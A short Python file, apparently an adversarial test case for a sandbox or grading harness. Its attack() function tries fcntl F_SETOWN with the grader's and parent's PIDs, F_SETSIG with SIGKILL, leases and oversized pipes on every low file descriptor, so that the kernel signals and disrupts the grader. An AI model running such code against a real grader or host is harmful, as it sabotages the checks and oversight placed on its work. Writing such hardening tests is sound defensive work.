"""Let the kernel send the signal: ownership of a pipe, with a signal of our choice."""

# ruff: noqa (written as an attacker would)

import fcntl
import os


def attack(ctx):
    achieved = []
    for fd in range(64):
        for name, command, value in (
            ("F_SETOWN", fcntl.F_SETOWN, ctx["grader"]),
            ("F_SETOWN parent", fcntl.F_SETOWN, os.getppid()),
            ("F_SETSIG", 10, 9),
            ("F_NOTIFY", 1026, 1),
            ("F_SETLEASE", 1024, 0),
            ("F_SETPIPE_SZ", 1031, 1 << 30),
        ):
            try:
                fcntl.fcntl(fd, command, value)
                achieved.append(f"{name} on {fd}")
            except OSError:
                pass
    return achieved
